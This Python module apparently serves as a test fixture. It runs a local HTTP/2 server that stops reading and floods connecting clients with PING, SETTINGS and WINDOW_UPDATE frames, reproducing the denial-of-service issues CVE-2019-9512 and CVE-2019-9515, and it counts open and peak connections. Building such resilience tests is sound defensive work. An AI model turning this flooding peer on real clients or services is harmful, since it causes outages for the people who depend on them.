"""A server of HTTP/2 that says the same thing without end and reads nothing (CVE-2019-9512, CVE-2019-9515)."""

from __future__ import annotations

import asyncio
import socket

from hyperframe.frame import Frame, PingFrame, SettingsFrame, WindowUpdateFrame

PIECE = 64 * 1024  # bytes that are written at once


def said(frame: Frame) -> bytes:
    data = frame.serialize()
    return data * (PIECE // len(data))


FLOODS = {
    "ping": said(PingFrame(0, bytes(8))),
    "settings": said(SettingsFrame(0)),
    "settings that change": said(SettingsFrame(0, {SettingsFrame.INITIAL_WINDOW_SIZE: 65535})),
    "windows of nothing": said(WindowUpdateFrame(1, 1)),
}


class FloodingPeer:
    """`open` connections, and the `most` that there were at once. The listening socket may be given."""

    def __init__(self, flood: bytes, reads: bool = False) -> None:
        self.flood = flood
        self.reads = reads
        self.connections: set[asyncio.BaseTransport] = set()
        self.most = 0
        self.made = 0

    @property
    def open(self) -> int:
        return len(self.connections)

    async def start(self, sock: socket.socket | None = None) -> None:
        if sock is None:
            sock = socket.socket()
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            sock.bind(("127.0.0.1", 0))
            sock.listen(128)
        sock.setblocking(False)
        name = sock.getsockname()
        self.address = f"unix:{name}" if isinstance(name, str) else f"127.0.0.1:{name[1]}"
        loop = asyncio.get_running_loop()
        make = loop.create_unix_server if sock.family == socket.AF_UNIX else loop.create_server
        self.server = await make(lambda: _Connection(self), sock=sock)

    def close(self) -> None:
        self.server.close()
        for transport in list(self.connections):
            assert isinstance(transport, asyncio.Transport)
            transport.abort()


class _Connection(asyncio.Protocol):
    def __init__(self, peer: FloodingPeer) -> None:
        self.peer = peer
        self.full = False

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        assert isinstance(transport, asyncio.Transport)
        self.transport = transport
        self.peer.connections.add(transport)
        self.peer.made += 1
        self.peer.most = max(self.peer.most, self.peer.open)
        if not self.peer.reads:
            transport.pause_reading()
        transport.write(SettingsFrame(0).serialize())
        self.go_on()

    def go_on(self) -> None:
        if not self.full and not self.transport.is_closing():
            self.transport.write(self.peer.flood)
            asyncio.get_running_loop().call_later(0.001, self.go_on)  # others have the loop, too

    def pause_writing(self) -> None:
        self.full = True

    def resume_writing(self) -> None:
        self.full = False
        self.go_on()

    def connection_lost(self, error: Exception | None) -> None:
        self.peer.connections.discard(self.transport)
